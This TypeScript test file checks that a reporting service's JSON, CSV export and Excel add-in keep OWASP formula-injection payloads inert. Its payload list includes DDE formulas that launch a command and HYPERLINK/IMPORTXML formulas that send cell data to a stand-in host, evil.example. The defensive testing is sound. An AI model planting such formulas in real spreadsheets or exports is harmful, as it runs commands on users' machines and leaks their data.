// Formula injection end to end: OWASP CSV-injection payloads submitted as a unit's report come back raw in the
// /summary JSON (it is data, not a sheet), inert in the CSV export (every such cell starts with '), and inert when
// the add-in's sheet writer puts the real /summary, /matrix and /details answers into Excel — as text in text-formatted
// ('@') cells, which Excel never runs (office-addin-mock
// harness), including 报送明细, which carries the progress, evidence and note texts themselves.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Details, Matrix, Summary } from '../../core/schemas/api.ts';
import { isFormulaLike, neutraliseCsvText, neutraliseFormula } from '../../core/text/formula-safe.ts';
import { demoMeasuresFor as measuresFor } from '../fixtures/demo-plan.ts';
import { SUMMARY_SHEETS, DETAILS_SHEET } from '../../addin/sheets/summary-sheets.ts';
import { writeSummarySheets } from '../../addin/excel/write-summary.ts';
import { installExcel, uninstallExcel } from '../addin/excel-harness.ts';
import { call, submit, supervisorToken, validSubmission } from './client.ts';
import { parseCsv } from '../../addin/files/csv.ts';

const UNIT = 'v-banlie';
/** No other reliability test writes this period, so what is read back is only what this file sent. */
const PERIOD = '2023-11-H1';
/** OWASP "CSV Injection" examples plus the usual variants (tab, CR, DDE, HYPERLINK exfiltration). */
export const OWASP_PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!E2",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"点我查看")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
  '=DDE("cmd";"/C calc";"!A0")A0',
  '\t=1+1',
  '\r=1+1',
  '=1+2";=1+2',
];

let summary: Summary;
let matrix: Matrix;
let details: Details;
let csv: string;

beforeAll(async () => {
  const base = validSubmission(UNIT, PERIOD, OWASP_PAYLOADS[4]!);
  const rows = measuresFor(UNIT);
  expect(rows.length).toBeGreaterThan(0);
  // Payloads ride in the free-text fields of every row (progress keeps its figures so the rules accept it).
  const submission = {
    ...base,
    rows: base.rows.map((r, i) => ({
      ...r,
      progress: `${OWASP_PAYLOADS[i % OWASP_PAYLOADS.length]} 入户走访${20 + i}户`,
      evidence: OWASP_PAYLOADS[(i + 1) % OWASP_PAYLOADS.length],
      note: OWASP_PAYLOADS[(i + 2) % OWASP_PAYLOADS.length],
    })),
  };
  const res = await submit(UNIT, submission);
  expect(res.status, await res.clone().text()).toBe(201);
  const auth = { token: supervisorToken() };
  summary = Summary.parse(await (await call(`/summary?period=${PERIOD}`, auth)).json());
  matrix = Matrix.parse(await (await call(`/matrix?from=${PERIOD}&to=${PERIOD}`, auth)).json());
  const detailsRes = await call(`/details?period=${PERIOD}`, auth);
  expect(detailsRes.status).toBe(200);
  details = Details.parse(await detailsRes.json());
  const exported = await call(`/export.csv?period=${PERIOD}`, auth);
  expect(exported.status).toBe(200);
  csv = await exported.text();
});

afterAll(uninstallExcel);

describe('formula injection', () => {
  it('keeps the raw text in the /summary JSON, which is data rather than a sheet', () => {
    const mine = summary.units.find((u) => u.unitId === UNIT)!;
    expect(mine.signer).toBe(OWASP_PAYLOADS[4]);
  });

  it('neutralises every payload in the CSV export with a leading apostrophe', () => {
    const cells = parseCsv(csv.replace(/^\uFEFF/, '')).flat();
    expect(cells.filter((c) => isFormulaLike(c))).toEqual([]);
    expect(cells).toContain(`'${OWASP_PAYLOADS[4]}`);
    const n = measuresFor(UNIT).length;
    const used = new Set(
      Array.from({ length: n }, (_, i) =>
        [i, i + 1, i + 2].map((k) => OWASP_PAYLOADS[k % OWASP_PAYLOADS.length]!),
      ).flat(),
    );
    // (neutraliseCsvText: "\t=1+1" is written "'\t'=1+1", the sign behind the tab protected too.)
    const inert = [...used].filter((p) =>
      cells.some((c) => c === neutraliseCsvText(p) || c.startsWith(`${neutraliseCsvText(p)} 入户走访`)),
    );
    expect(inert.sort()).toEqual([...used].sort());
  });

  it('writes the real summary into Excel with no cell that Excel would run as a formula', async () => {
    const h = installExcel({ active: 'Sheet1', sheets: { Sheet1: null } });
    const names = await writeSummarySheets(summary, matrix, details);
    expect(names).toEqual([...Object.values(SUMMARY_SHEETS), DETAILS_SHEET]);
    // Formula-like text is written as it came, but only into text-formatted ('@') cells, which Excel never runs.
    let formulaLike = 0;
    for (const name of names) {
      const ops = h.log.filter((e) => e.sheet === name);
      const table = ops.find((e) => e.path === 'values' && e.target.startsWith('A2:'))!.value as unknown[][];
      const formats = ops.find((e) => e.path === 'numberFormat' && e.target.startsWith('A3:'))?.value as
        string[][] | undefined;
      expect(
        table[0]!.filter((v) => typeof v === 'string' && isFormulaLike(v)),
        `${name} header`,
      ).toEqual([]);
      table.slice(1).forEach((row, r) =>
        row.forEach((v, c) => {
          if (typeof v !== 'string' || !isFormulaLike(v)) return;
          formulaLike++;
          expect(formats?.[r]?.[c], `${name} ${r},${c}`).toBe('@');
        }),
      );
    }
    expect(formulaLike).toBeGreaterThan(0);
    expect(names.flatMap((n) => h.writes(n).flatMap((w) => w.value.flat()))).toContain(OWASP_PAYLOADS[4]);
  });

  it('writes every payload of the progress, evidence and note texts into 报送明细 whole, in the field it was sent in', async () => {
    const h = installExcel({ active: 'Sheet1', sheets: { Sheet1: null } });
    await writeSummarySheets(summary, matrix, details);
    const table = h.writes(DETAILS_SHEET).find((w) => w.target.startsWith('A2:'))!.value;
    const header = table[0] as string[];
    // Other files' units may report the same period and measures: pick this unit's lines by name.
    const unitName = details.rows.find((d) => d.unitId === UNIT)!.unitName;
    const mine = table.slice(1).filter((r) => r[header.indexOf('填报单位')] === unitName);
    const n = measuresFor(UNIT).length;
    expect(mine).toHaveLength(n);
    const column = (name: string) => mine.map((r) => r[header.indexOf(name)]);
    // Each payload arrives whole, without an apostrophe (the cells are text-formatted; see the test above).
    const sent = details.rows.filter((d) => d.unitId === UNIT);
    expect(column('整改进展').sort()).toEqual(sent.map((d) => d.progress).sort());
    expect(column('佐证材料').sort()).toEqual(sent.map((d) => d.evidence ?? '').sort());
    expect(column('备注').sort()).toEqual(sent.map((d) => d.note ?? '').sort());
    expect(column('佐证材料').filter((v) => isFormulaLike(String(v))).length).toBeGreaterThan(0);
    expect(new Set(sent.flatMap((d) => [d.evidence, d.note]))).toEqual(
      new Set(
        Array.from({ length: n }, (_, i) => [
          OWASP_PAYLOADS[(i + 1) % OWASP_PAYLOADS.length],
          OWASP_PAYLOADS[(i + 2) % OWASP_PAYLOADS.length],
        ]).flat(),
      ),
    );
  });
});
